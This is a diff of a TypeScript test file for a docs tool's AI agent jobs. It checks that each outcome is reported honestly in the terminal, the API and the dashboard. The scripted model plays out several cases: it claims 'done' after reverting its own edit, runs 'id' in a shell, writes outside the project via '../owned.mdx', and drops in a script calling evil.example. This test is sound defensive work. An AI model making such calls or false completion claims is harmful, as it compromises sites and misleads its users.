@@ -1,16 +1,25 @@
 /** What a job with a model ends as in the terminal, the API and the dashboard, for each way in which a model can behave. */
 import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { describe, it, type TestContext } from 'node:test';
-import { isWell, stateText } from '../../src/cli/jobs/job-labels.ts';
+import { isWell } from '../../src/cli/jobs/job-labels.ts';
+import { outcomeText } from '../../src/cli/jobs/job-text.ts';
 import type { ModelLimits } from '../../src/jobs/agents/model/limits.ts';
 import { modelAgent } from '../../src/jobs/agents/model/model-agent.ts';
+import { defined } from '../../src/lib/defined.ts';
 import type { Job } from '../../src/records/jobs/job.ts';
 import { presentJobDetails } from '../../src/web/service/wire/job-details.ts';
+import { docsJson } from '../support/fixture-folder.ts';
+import { makeRepository } from '../support/git/test-repository.ts';
 import { type JobsUnderTest, jobsUnderTest } from '../support/jobs-under-test.ts';
 import type { Fault } from '../support/model/faults.ts';
-import type { Script, ScriptedCall } from '../support/model/script.ts';
+import { replyOf, type ScriptedCall, type ScriptedReply } from '../support/model/script.ts';
 import { startScriptedModel } from '../support/model/start-scripted-model.ts';
 import { WRITING } from '../support/model/writing.ts';
+import { readText } from '../support/read-text.ts';
+import { runLectern } from '../support/run-lectern.ts';
 import { visitJobs } from '../support/visit-jobs.ts';
 
 const call = (name: string, args: object | string = {}): ScriptedCall => ({ name, arguments: args });
@@ -23,6 +32,7 @@ const finish = (outcome: string | undefined, message: string, more: object = {})
     ...more,
   });
 const CHANGE = call('edit_file', { path: 'guide.mdx', old: 'Back to', new: 'Go back to' });
+const DEAD_LINK = call('edit_file', { path: 'index.mdx', old: '(/guide)', new: '(/gone)' });
 const HOSTILE = [
   call('run_shell', { command: 'id' }),
   call('write_file', { path: '../owned.mdx', text: 'x' }),
@@ -30,8 +40,14 @@ const HOSTILE = [
 ];
 
 interface Row {
-  readonly script?: Script;
+  readonly script?: readonly ScriptedReply[];
   readonly always?: Fault;
+  /** Instead of the first answer. */
+  readonly first?: Fault;
+  /** Instead of every answer after the script. */
+  readonly after?: Fault;
+  /** Milliseconds of a turn. */
+  readonly turn?: number;
   readonly limits?: Partial<ModelLimits>;
   /** Exit code and label. */
   readonly terminal: readonly [code: 0 | 1, label: string];
@@ -136,7 +152,7 @@ const TABLE: Readonly<Record<string, Row>> = {
   truncated: {
     script: [{ text: 'First I', ending: 'length' }],
     ...COULD_NOT,
-    message: /^First I/,
+    message: /^First I\n\nThe answers of the model were cut/,
   },
   'endless loop': {
     script: [{ calls: [call('list_files')] }],
@@ -149,10 +165,76 @@ const TABLE: Readonly<Record<string, Row>> = {
     message: /10 steps one after the other brought nothing new/,
   },
   'at the limit of steps': {
-    script: ({ spoken }) => ({ calls: [call('search', { pattern: `word ${spoken}` })] }),
+    script: [1, 2, 3, 4, 5].map((word) => ({ calls: [call('search', { pattern: `word ${word}` })] })),
     limits: { steps: 5 },
     ...COULD_NOT,
     message: /it came to the limit of 5 steps/,
+  },
+  'sloppy: takes its change back and says done': {
+    script: [
+      { calls: [CHANGE] },
+      { calls: [call('edit_file', { path: 'guide.mdx', old: 'Go back to', new: 'Back to' })] },
+      { calls: [finish('done', 'I wrote more.')] },
+    ],
+    ...COULD_NOT,
+    message: /^I wrote more\.\n\nThe agent said that this is done, but the files are as they were before\.$/,
+  },
+  'sloppy: a dead link in one of two pages': {
+    script: [{ calls: [CHANGE, DEAD_LINK] }, { calls: [finish('done', 'I wrote more.')] }],
+    ...PARTLY,
+    message:
+      /^I wrote more\.\n\n1 new error is left.*Left out, because the checks found new problems there: index\.mdx\.$/s,
+  },
+  'sloppy: a dead link and nothing else': {
+    script: [{ calls: [DEAD_LINK] }, { calls: [finish('done', 'I wrote more.')] }],
+    ...FAILED,
+    message:
+      /^Nothing was kept, because every change brought new problems: index\.mdx:6: The link to "\/gone"/,
+  },
+  'hostile: a script for the whole site': {
+    script: [
+      { calls: [call('write_file', { path: 'track.js', text: 'fetch("https://evil.example")' })] },
+      { calls: [finish('done', 'I made it better.')] },
+    ],
+    ...COULD_NOT,
+    message: /^I made it better\.\n\nThe model said that this is done, but changed nothing\./,
+  },
+  'truncated in the middle of a call': {
+    script: [{ calls: [call('write_file', '{"path": "guide.mdx", "text": "Fi')], ending: 'length' }],
+    ...COULD_NOT,
+    message: /write_file failed 3 times: the answers of the model were cut at the longest/,
+  },
+  'truncated after a change': {
+    script: [{ calls: [CHANGE] }, { text: 'And now', ending: 'length' }],
+    ...PARTLY,
+    message: /^And now\n\nThe answers of the model were cut at the longest that it gives\./,
+  },
+  'refusing after a change': {
+    script: [{ calls: [CHANGE] }, { text: 'I will not.', ending: 'refusal' }],
+    ...PARTLY,
+    message: /^I will not\.\n\nThe agent did not do all of it/,
+  },
+  '500 after a change': {
+    script: [{ calls: [CHANGE] }],
+    after: 'broken',
+    ...PARTLY,
+    message: /^The work was ended in the middle: .* status 500: .*\. What had been changed by then is kept\./,
+  },
+  '429 once': {
+    script: [{ calls: [CHANGE] }, { calls: [finish('done', 'I wrote more.')] }],
+    first: 'busy',
+    terminal: [0, '✔ Completed'],
+    api: [false, 'completed', 'changed'],
+    message: /^I wrote more\.$/,
+    dashboard: 'To review',
+  },
+  'slow: the time of the turn is over': {
+    always: 'silent',
+    turn: 400,
+    terminal: [1, '✖ Timed out'],
+    api: [true, 'error', 'stopped'],
+    message: /The time was over before the agent had changed a file\.$/,
+    dashboard: 'Timed out',
   },
   slow: { always: 'silent', limits: { request: 50, retries: 0 }, ...FAILED, message: /did not answer/ },
   'cut off': { always: 'cut', ...FAILED, message: /connection to the model's endpoint .* failed/ },
@@ -162,8 +244,17 @@ const TABLE: Readonly<Record<string, Row>> = {
 };
 
 async function ended(t: TestContext, wire: 'openai' | 'anthropic', row: Row) {
-  const model = await startScriptedModel({ wire, script: row.script ?? [], key: 'k' });
+  const script = row.script ?? [];
+  const model = await startScriptedModel({
+    wire,
+    key: 'k',
+    script: (conversation) => {
+      if (row.after !== undefined && conversation.spoken === script.length) model.failAlways(row.after);
+      return replyOf(script, conversation);
+    },
+  });
   t.after(() => model.close());
+  if (row.first !== undefined) model.fail(row.first);
   model.failAlways(row.always);
   const agent = modelAgent({
     url: model.url,
@@ -174,19 +265,28 @@ async function ended(t: TestContext, wire: 'openai' | 'anthropic', row: Row) {
     limits: row.limits ?? {},
     wait: async (_, signal) => signal.throwIfAborted(),
   });
-  const jobs = await jobsUnderTest(agent);
+  const jobs = await jobsUnderTest(agent, { limits: defined({ turn: row.turn }) });
   await jobs.worker();
   return { jobs, job: await jobs.ended(await jobs.create()) };
 }
 
-/** The words in the list of jobs. */
-async function dashboardRow(jobs: JobsUnderTest): Promise<string> {
-  const { text } = await (await visitJobs(jobs))('viewer').get('/dashboard/p/docs/jobs');
-  return /<span class="pill job-pill"[^>]*>(?:<svg.*?<\/svg>)?([^<]*)<\/span>/s.exec(text)?.[1] ?? text;
+/** The words of the dashboard: in the list of jobs, and at the top of the job's page. */
+async function dashboardWords(jobs: JobsUnderTest, job: Job): Promise<readonly [pill: string, told: string]> {
+  const viewer = (await visitJobs(jobs))('viewer');
+  const [list, page] = [
+    await viewer.get('/dashboard/p/docs/jobs'),
+    await viewer.get(`/dashboard/p/docs/jobs/${job.id}`),
+  ];
+  const pill = /<span class="pill job-pill"[^>]*>(?:<svg.*?<\/svg>)?([^<]*)<\/span>/s.exec(list.text)?.[1];
+  const told = /<p class="job-told">(.*?)<\/p>/s.exec(page.text)?.[1];
+  return [pill ?? list.text, readText(told ?? page.text, 'all').words.join(' ')];
 }
 
 /** As the terminal gets it, which is the form of the API. */
-const wireOf = (job: Job) => ({ ...presentJobDetails(job), project: 'docs' });
+const wireOf = (job: Job) => ({ ...presentJobDetails(job), project: 'docs', link: 'http://localhost/job' });
+const PLAIN = { paint: (_: string, text: string) => text };
+/** Words on one line, as a page shows them. */
+const flat = (text: string): string => text.replace(/\s+/g, ' ').trim();
 
 for (const wire of ['openai', 'anthropic'] as const)
   describe(`a job with a model ends honestly (${wire})`, () => {
@@ -200,9 +300,54 @@ for (const wire of ['openai', 'anthropic'] as const)
           String(shown.messageToUser),
         );
         assert.match(shown.messageToUser ?? '', row.message);
-        const label = stateText(shown, { paint: (_, text) => text });
-        assert.deepEqual([isWell(shown) ? 0 : 1, label], row.terminal);
-        assert.equal(await dashboardRow(jobs), row.dashboard);
+        const printed = outcomeText({ job: shown, ended: true, files: [] }, PLAIN);
+        const [code, label] = row.terminal;
+        assert.deepEqual([isWell(shown) ? 0 : 1, printed.slice(0, label.length)], [code, label]);
+        assert.ok(flat(printed).includes(flat(shown.messageToUser ?? '')), printed);
+        const [pill, told] = await dashboardWords(jobs, job);
+        assert.equal(pill, row.dashboard);
+        assert.ok(flat(told).includes(flat(job.messageToUser ?? '')), told);
         if (row.pull !== undefined) assert.match(job.body ?? '', row.pull);
       });
   });
+
+describe('lectern jobs run, with a model', () => {
+  const DOCS = {
+    'docs.json': JSON.stringify(docsJson({ pages: ['index', 'guide'] }, { name: 'Docs' })),
+    'index.mdx': '---\ntitle: Start\ndescription: Here.\n---\n\nRead the [guide](/guide).\n',
+    'guide.mdx': '---\ntitle: Guide\ndescription: How.\n---\n\nBack to the [start](/index).\n',
+  };
+  const RUN = [
+    'good',
+    'nothing to do',
+    'partly',
+    'needs facts',
+    'empty',
+    'endless loop',
+    'refusing',
+  ] as const;
+  for (const [at, title] of RUN.entries())
+    it(`${title}: its exit code, label and words`, async (t) => {
+      const { script = [], terminal, message }: Row = TABLE[title]!;
+      const wire = at % 2 === 0 ? 'openai' : 'anthropic';
+      const model = await startScriptedModel({ wire, script, key: 'k' });
+      t.after(() => model.close());
+      const [docs, data] = [await makeRepository(DOCS), mkdtempSync(join(tmpdir(), 'lectern-endings-'))];
+      t.after(() => rmSync(data, { recursive: true, force: true, maxRetries: 5 }));
+      const { code, out } = await runLectern(['jobs', 'run', 'Make it better', docs.path], {
+        cwd: data,
+        env: {
+          LECTERN_DATA_DIR: data,
+          LECTERN_AGENT: 'model',
+          LECTERN_MODEL_URL: `${model.url}${wire === 'openai' ? '' : '/messages'}`,
+          LECTERN_MODEL_KEY: 'k',
+          LECTERN_MODEL_NAME: 'scripted',
+        },
+      });
+      const [label, ...words] = out.split('\n');
+      assert.deepEqual([code, label?.startsWith(terminal[1])], [terminal[0], true], out);
+      const told = words.map((line) => line.replace(/^ {2}/, '')).join('\n');
+      const [first] = message.source.replace(/^\^/, '').split('\\n');
+      assert.match(told, new RegExp(first!.replace(/\$$/, ''), 'm'));
+    });
+});
